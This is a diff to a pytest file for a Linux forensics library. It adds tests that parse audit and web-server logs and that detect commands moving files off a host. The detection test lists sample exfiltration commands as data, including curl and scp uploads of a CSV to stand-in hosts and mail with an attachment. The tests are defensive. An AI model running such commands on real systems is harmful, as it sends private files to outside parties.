@@ -7,6 +7,7 @@ import pytest
 
 from forensics.artifacts import Content
 from forensics.artifacts.linux import (
+    audit_log,
     auth_log,
     ftp_log,
     host_settings,
@@ -18,7 +19,9 @@ from forensics.artifacts.linux import (
     smb_conf,
     system_log,
     utmp,
+    web_log,
 )  # fmt: skip
+from forensics.artifacts.linux.commands import leaves
 from forensics.artifacts.linux.syslog import entries
 from forensics.artifacts.removable import os_traces
 from forensics.artifacts.text import Reach, Record
@@ -146,10 +149,25 @@ def test_histories_of_shells():
     found = [(row["time_raw"], row["account"], row["path"]) for row in parsed.traces]
     assert found == [
         ("1686330000", "kei", "/tmp/x.tgz"), ("1686330000", "kei", "/srv/a b.csv"),
+        (None, "kei", "/srv/without_a_time.csv"),
         ("1686330120", "kei", "/tmp/y"), ("1686330120", "kei", "/srv/c.csv"),
     ]  # fmt: skip
     assert {row["kind"] for row in parsed.traces} == {"file_read"}
     assert shell_history.parse(Content(b"#1\n'", "/root/.bash_history")).traces == []
+
+
+def test_commands_that_take_a_file_elsewhere():
+    away = (
+        "cp /srv/a.csv /media/usb0/", "scp /srv/a.csv kei@192.0.2.9:", "cat /srv/a.csv > /mnt/x", "rsync -a /srv/a.csv nas:/x",
+        "curl -F f=@/srv/a.csv https://example.com/", "dd if=/srv/a.csv of=/run/media/kei/D/a", "mail -a /srv/a.csv x@example.com",
+    )  # fmt: skip
+    here = (
+        "cp /srv/a.csv /tmp/",
+        "cat /srv/a.csv",
+        "tar czf /tmp/x.tgz /srv/a.csv",
+        "curl http://localhost:80/",
+    )
+    assert [line for line in (*away, *here) if leaves(line)] == [*away]
 
 
 def test_usb_storage_in_kernel_lines():
@@ -184,6 +202,72 @@ Jun 21 11:00:00 sv systemd-shutdown[1]: Syncing filesystems and block devices.
         "clock_changed",
         "host_stopped",
     ]
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("chronyd[600]: System clock was stepped by -259200.123456 seconds", [("clock_changed", "root")]),
+        ("ntpd[7]: time reset +86400.1 s", [("clock_changed", "root")]),
+        ("ntpdate[7]: step time server 192.0.2.1 offset 3600.5 sec", [("clock_changed", "root")]),
+        ("chronyd[600]: System clock was stepped by 0.412 seconds", []),
+    ],
+)  # fmt: skip
+def test_steps_of_time_services(line, told):
+    parsed = system_log.parse(Content(f"Jun 21 10:00:00 sv {line}\n".encode()))
+    assert [(row["kind"], row["account"]) for row in rows(parsed)] == told
+
+
+def _audited(serial: int, call: str, *paths: str) -> str:
+    head = f"msg=audit(1686404467.123:{serial}):"
+    named = "".join(
+        f"type=PATH {head} item={n} name={path} inode=9 nametype=NORMAL\n"
+        for n, path in enumerate(paths)
+    )
+    return f'type=SYSCALL {head} arch=c000003e {call} exe="/usr/bin/cp" key="k"\ntype=CWD {head} cwd="/srv"\n{named}'
+
+
+AUDITD = (
+    _audited(1, "syscall=257 success=yes a2=0 auid=1002 uid=0", '"/srv/a.csv"')
+    + _audited(2, "syscall=2 success=yes a1=241 auid=4294967295 uid=33", "E5908D2E637376")
+    + _audited(3, "syscall=257 success=no a2=0 auid=1002 uid=1002", '"b.csv"')
+    + _audited(4, "syscall=59 success=yes a2=0 auid=1002 uid=1002", '"/usr/bin/cp"')
+    + 'type=EXECVE msg=audit(1686404467.123:5): argc=3 a0="cp" a1="/srv/c.csv" a2="/media/usb/"\n'
+)
+
+
+def test_files_that_the_audit_daemon_names():
+    parsed = audit_log.parse(Content(f"{AUDITD}no record\n".encode()))
+    assert [(row["kind"], row["account"], row["path"]) for row in rows(parsed)] == [
+        ("file_read", "uid:1002", "/srv/a.csv"),
+        ("file_written", "uid:33", "/srv/名.csv"),
+        ("access_failed", "uid:1002", "/srv/b.csv"),
+        ("file_read", None, "/srv/c.csv"),
+    ]
+    assert "leaves=yes" in rows(parsed)[-1]["detail"]
+    assert str(moment(rows(parsed)[0]["time"].start)) == "2023-06-10 13:41:07.123000+00:00"
+    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]
+
+
+WEB = """\
+192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/%E5%90%8D%E7%B0%BF.csv?x=1 HTTP/1.1" 200 48211 "-" "curl"
+www.example.jp:443 pool-7.example.com - kei [10/Jun/2023:14:11:05 +0000] "POST /dl.php?f=srv/a.csv&n=3 HTTP/2.0" 206 9 "-" "M"
+192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/a.csv HTTP/1.1" 404 12
+192.0.2.9 - - [10/Xyz/2023:23:11:05 +0900] "GET /a HTTP/1.1" 200 12
+"""
+
+
+def test_requests_of_a_web_server():
+    parsed = web_log.parse(Content(WEB.encode()))
+    assert [(row["kind"], row["account"], row["path"], row["size"]) for row in rows(parsed)] == [
+        ("file_read", None, "/kyufu/名簿.csv", 48211),
+        ("file_read", "kei", "/dl.php", 9),
+        ("file_read", "kei", "/srv/a.csv", 9),
+    ]
+    assert [row["host"] for row in rows(parsed)] == ["192.0.2.9", None, None]
+    times = {row["time"] for row in rows(parsed)}
+    assert {str(moment(time.start)) for time in times} == {"2023-06-10 14:11:05+00:00"}
+    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]
 
 
 def test_ftp_transfers():
